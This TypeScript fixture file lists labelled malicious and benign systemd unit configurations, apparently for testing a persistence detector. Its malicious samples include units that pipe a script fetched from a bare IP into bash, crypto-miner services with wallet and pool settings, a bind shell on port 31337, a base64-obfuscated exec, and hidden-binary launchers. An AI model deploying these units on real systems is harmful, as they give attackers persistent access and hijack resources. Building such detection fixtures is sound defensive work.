// Forms of systemd units: services, user units, paths, sockets, drop-ins and generators.
import { type FormsByKind, script } from './form.ts'

const wanted = (name: string, unit: string) => ({
  [`/etc/systemd/system/${name}`]: unit,
  [`/etc/systemd/system/multi-user.target.wants/${name}`]: { link: `/etc/systemd/system/${name}` },
})

export const units: FormsByKind = {
  'systemd-service': {
    malicious: [
      {
        '/etc/systemd/system/kworkerds.service':
          '[Unit]\nDescription=kw\n[Service]\nExecStart=/usr/lib/.kworker/kworkerds\nRestart=always\n[Install]\nWantedBy=multi-user.target\n',
      },
      wanted(
        'c3pool.service',
        '[Service]\nExecStart=/root/c3pool/svc -o auto.c3pool.org:443 --tls -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge -k\n[Install]\nWantedBy=multi-user.target\n',
      ),
      wanted(
        'pwnriglhttps.service',
        '[Service]\nExecStart=/bin/bash -c "wget -q -O - http://45.9.1.4/p | bash"\n[Install]\nWantedBy=multi-user.target\n',
      ),
      wanted('py.service', '[Service]\nExecStart=/usr/bin/python3 -c "import base64;exec(base64.b64decode(\'aW1wb3J0IG9z\'))"\n'),
    ],
    benign: [
      {
        ...wanted(
          'app.service',
          '[Service]\nUser=app\nWorkingDirectory=/opt/app\nExecStart=/opt/app/.venv/bin/gunicorn --bind 127.0.0.1:8000 app.wsgi\nRestart=always\n[Install]\nWantedBy=multi-user.target\n',
        ),
        ...wanted(
          'gitlab-runner.service',
          '[Service]\nExecStart=/usr/bin/gitlab-runner "run" "--config" "/etc/gitlab-runner/config.toml" "--working-directory" "/home/gitlab-runner" "--service" "gitlab-runner" "--user" "gitlab-runner"\n[Install]\nWantedBy=multi-user.target\n',
        ),
        ...wanted(
          'node_exporter.service',
          '[Service]\nUser=node_exporter\nExecStart=/usr/local/bin/node_exporter --collector.systemd\n[Install]\nWantedBy=multi-user.target\n',
        ),
      },
      {
        '/usr/lib/systemd/system/fail2ban.service':
          '[Service]\nType=simple\nExecStartPre=/bin/mkdir -p /run/fail2ban\nExecStart=/usr/bin/fail2ban-server -xf start\nExecStop=/usr/bin/fail2ban-client stop\n[Install]\nWantedBy=multi-user.target\n',
        '/usr/lib/systemd/system/docker.service':
          '[Service]\nType=notify\nExecStart=/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock\n[Install]\nWantedBy=multi-user.target\n',
        '/etc/systemd/system/jenkins-agent.service':
          '[Service]\nUser=jenkins\nExecStart=/usr/bin/java -jar /var/lib/jenkins/agent.jar -url https://ci.example.com/ -secret x -name a\n',
        '/etc/systemd/system/pm2-bob.service':
          '[Service]\nType=forking\nUser=bob\nExecStart=/home/bob/.nvm/versions/node/v18.0.0/lib/node_modules/pm2/bin/pm2 resurrect\n[Install]\nWantedBy=multi-user.target\n',
      },
    ],
  },
  'systemd-user-unit': {
    malicious: [
      {
        '/home/bob/.config/systemd/user/g.service':
          '[Service]\nExecStart=/home/bob/.config/.gpu/miner --algo kawpow --server rvn.2miners.com:6060 --user RXXX\n',
      },
      { '/home/bob/.config/systemd/user/x.service': '[Service]\nExecStart=/home/bob/.local/share/.sys/dbus-daemon\n' },
    ],
    benign: [
      {
        '/home/bob/.config/systemd/user/syncthing.service':
          '[Service]\nExecStart=/usr/bin/syncthing serve --no-browser\n[Install]\nWantedBy=default.target\n',
      },
      {
        '/home/bob/.config/systemd/user/podman-web.service': '[Service]\nExecStart=/usr/bin/podman start -a web\n',
        '/home/bob/.config/systemd/user/notify.service': '[Service]\nExecStart=%h/.local/bin/notify\n',
      },
    ],
  },
  'systemd-path': {
    malicious: [
      {
        '/etc/systemd/system/guard.path': '[Path]\nPathChanged=/usr/local/bin/m\n',
        '/etc/systemd/system/guard.service': '[Service]\nExecStart=/bin/sh /tmp/.g/restore\n',
      },
    ],
    benign: [
      {
        '/etc/systemd/system/nginx-reload.path': '[Path]\nPathChanged=/etc/letsencrypt/live\n',
        '/etc/systemd/system/nginx-reload.service': '[Service]\nExecStart=/bin/systemctl reload nginx\n',
      },
    ],
  },
  'systemd-socket': {
    malicious: [
      {
        '/etc/systemd/system/door.socket': '[Socket]\nListenStream=31337\nAccept=yes\n[Install]\nWantedBy=sockets.target\n',
        '/etc/systemd/system/sockets.target.wants/door.socket': { link: '/etc/systemd/system/door.socket' },
        '/etc/systemd/system/door@.service': '[Service]\nExecStart=-/bin/bash -i\nStandardInput=socket\n',
      },
      {
        '/etc/systemd/system/pre.socket': '[Socket]\nListenFIFO=/run/p\nExecStartPre=/var/tmp/.p/x\n[Install]\nWantedBy=sockets.target\n',
        '/etc/systemd/system/sockets.target.wants/pre.socket': { link: '/etc/systemd/system/pre.socket' },
        '/etc/systemd/system/pre.service': '[Service]\nExecStart=/bin/true\n',
      },
    ],
    benign: [
      {
        '/usr/lib/systemd/system/docker.socket':
          '[Socket]\nListenStream=/run/docker.sock\nSocketMode=0660\n[Install]\nWantedBy=sockets.target\n',
        '/usr/lib/systemd/system/docker.service': '[Service]\nExecStart=/usr/bin/dockerd -H fd://\n',
      },
    ],
  },
  'systemd-drop-in': {
    malicious: [
      { '/etc/systemd/system/ssh.service.d/10-x.conf': '[Service]\nExecStartPost=/bin/sh -c "/var/tmp/.s/x &"\n' },
      { '/etc/systemd/system/cron.service.d/o.conf': '[Service]\nExecStartPre=/bin/sh -c "curl -s http://45.9.1.4/c | sh"\n' },
    ],
    benign: [
      {
        '/etc/systemd/system/docker.service.d/override.conf':
          '[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H fd:// -H tcp://127.0.0.1:2375\n',
        '/etc/systemd/system/getty@tty1.service.d/autologin.conf':
          '[Service]\nExecStart=\nExecStart=-/sbin/agetty --autologin bob --noclear %I $TERM\n',
      },
      {
        '/etc/systemd/system/nginx.service.d/limits.conf':
          '[Service]\nLimitNOFILE=65536\nExecStartPre=/usr/local/bin/render-config /etc/nginx\n',
      },
    ],
  },
  'systemd-generator': {
    malicious: [
      { '/usr/lib/systemd/system-generators/x': script('/var/tmp/.gen/x') },
      { '/etc/systemd/system-generators/net-gen': script('setsid /usr/lib/.n/agent >/dev/null 2>&1 &') },
    ],
    benign: [
      {
        '/usr/lib/systemd/system-generators/friendly-recovery': script(
          'set -eu\nif grep -q recovery /proc/cmdline; then\n  ln -sf /lib/systemd/system/friendly-recovery.target "$3/default.target"\nfi',
        ),
      },
      {
        '/usr/lib/systemd/system-generators/cloud-init-generator': script(
          'set -f\nRUN_ENABLED_FILE="/run/cloud-init/enabled"\ndebug() { :; }\nread_proc_cmdline() { _RET=$(cat /proc/cmdline); }\nmain() {\n  local normal_d="$1"\n  ln -snf /lib/systemd/system/cloud-init.target "$normal_d/multi-user.target.wants/cloud-init.target"\n}\nmain "$@"',
        ),
      },
    ],
  },
}
